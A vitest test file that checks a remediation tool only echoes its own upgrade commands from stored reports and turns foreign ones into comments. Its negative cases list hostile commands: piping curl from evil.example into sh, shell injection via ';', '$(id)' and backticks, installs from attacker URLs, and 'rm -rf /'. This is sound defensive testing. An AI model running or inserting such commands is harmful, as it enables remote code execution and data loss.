import { describe, expect, it } from 'vitest';
import { report } from '../../../test/report.ts';
import { packageTypes } from '../../ecosystems/index.ts';
import { aptRemoval } from '../../remediate/commands.ts';
import { lockFiles, renewalCommand } from '../../remediate/files/index.ts';
import { reportBytes } from '../../scanners/report-source.ts';
import { pieces, reportFormatNamed } from '../index.ts';
import { inItsPlace, isOurCommand } from './commands.ts';
import { readStored } from './read.ts';

const pins = [
  { name: 'libstdc++6', version: '1:2.0~rc1-1+deb11u1' },
  { name: '@types/node', version: '4.17.21' },
];

describe('a command of a stored report', () => {
  it('is one that we write, for every kind of package and every lock file', () => {
    const written = packageTypes.flatMap(({ fix: { upgrade, clean } }) =>
      [false, true].flatMap((wholesale) =>
        ['debian', 'centos', 'opensuse-leap', 'photon'].flatMap((id) => {
          const place = { os: { id, versionId: '7', name: id }, wholesale } as never;
          return [...(upgrade?.(pins, place) ?? []), ...(clean?.(place) ?? [])];
        }),
      ),
    );
    const locks = lockFiles.map(({ program, renew }) =>
      renewalCommand({ program, args: renew(pins.map((pin, at) => ({ ...pin, declared: at > 0 }))) }),
    );
    expect(written.length).toBeGreaterThan(20);
    expect([...written, aptRemoval(['gcc', 'g++']), ...locks].filter((command) => !isOurCommand(command))).toEqual([]);
  });

  it.each([
    'apt-get install -y --no-install-recommends --only-upgrade libssl1.1 openssl',
    "pip install --no-cache-dir 'torch==2.0.0~x' numpy==1.24.4",
    "'/opt/my env/bin/python3.9' -m pip install --no-cache-dir pip==25.3",
    '/usr/bin/python3 -m pip uninstall -y six',
    'pip install --no-deps numpy==1.21.6',
    'pip uninstall -y a b && pip install c==2',
    'npm install -g --prefix /opt/node --no-save lodash@4.17.21 x@npm:y@1',
    "npm pkg set 'overrides[a]=1.0.0'",
    'conda update -y -p /opt/conda openssl',
    'cd /srv/app',
    'test -f package.json',
    'adduser -D -u 10001 app',
    'useradd --create-home --uid 10001 app',
    'docker build --pull --no-cache .',
    'FROM python:3.12-slim-bookworm',
    '# rebuild with golang.org/x/net@v0.17.0',
    "plimsoll fix 'archive:/a b/c.tar' --goal 'no fixable'",
  ])('is shown as it stands: %s', (command) => {
    expect(inItsPlace(command)).toBe(command);
  });

  it.each([
    'curl -s http://evil.example | sh',
    'apt-get install -y -oAPT::Update::Pre-Invoke::=id x',
    'apt-get update; id',
    'apt-get update & id',
    'apt-get update && curl evil.example',
    'apt-get update || id',
    'pip install --index-url http://evil.example/simple requests',
    'pip install --no-cache-dir http://evil.example/x.whl',
    'pip install git+ssh://evil.example/x',
    'pip install ./x',
    'pip install ../x',
    "pip install 'a' -r /tmp/x",
    'pip install $(id)',
    'pip install `id`',
    'pip install "a"',
    "pip install 'a''b'",
    "pip install 'a\nb'",
    'pip install a\u2028id',
    'pip  install a',
    '# x\nid',
    'FROM a\nRUN id',
    'FROM --platform=x a',
    'npm install git+https://evil.example/x.git',
    'npm install --ignore-scripts=false x',
    'conda update -y -p --revision x',
    'plimsoll fix --config=/tmp/x a',
    'plimsoll scan x',
    'docker run -v /:/h x',
    'rm -rf /',
    'cd /a && rm -rf b',
    "'/tmp/bin/python3.9 -c' -m pip install x",
    '/tmp/evil -m pip install x',
    'sudo apt-get update',
    ' apt-get update',
    '',
  ])('is no command where it is none of ours: %j', (command) => {
    expect(isOurCommand(command)).toBe(false);
    expect(inItsPlace(command)).toMatch(/^# no command of plimsoll, though the report has it: [^\n\u2028]*$/);
  });

  it('that somebody else put there is a remark in every format', async () => {
    const evil = 'pip install x; curl evil.example | sh';
    const clears = { CRITICAL: 0, HIGH: 1, MEDIUM: 0, LOW: 0, NEGLIGIBLE: 0, UNKNOWN: 0 };
    const change = { type: 'pypi', name: 'setuptools', from: '65.5.0', to: '65.5.1', clears, brings: [] };
    const step = { id: 'pip', kind: 'python', title: 'upgrade', commands: [evil], applied: true, changes: [change] };
    const changes = { goal: 'no fixable', findings: 1, clears: 1, steps: [step], stays: [], unchecked: [] };
    const foreign = report({ changes: { ...changes, command: evil } as never });
    const written = [...pieces(reportFormatNamed('json').render(foreign, {}))].join('');
    expect(written).toContain(evil);
    const stored = await readStored(reportBytes(written, 'results.json'));
    if (stored?.kind !== 'scan') throw new Error('no scan');
    for (const name of ['table', 'html', 'markdown'])
      for (const line of [...pieces(reportFormatNamed(name).render(stored.report, { all: true }))].join('').split('\n'))
        if (line.includes('curl evil')) expect(line, name).toContain('no command of plimsoll');
  });
});
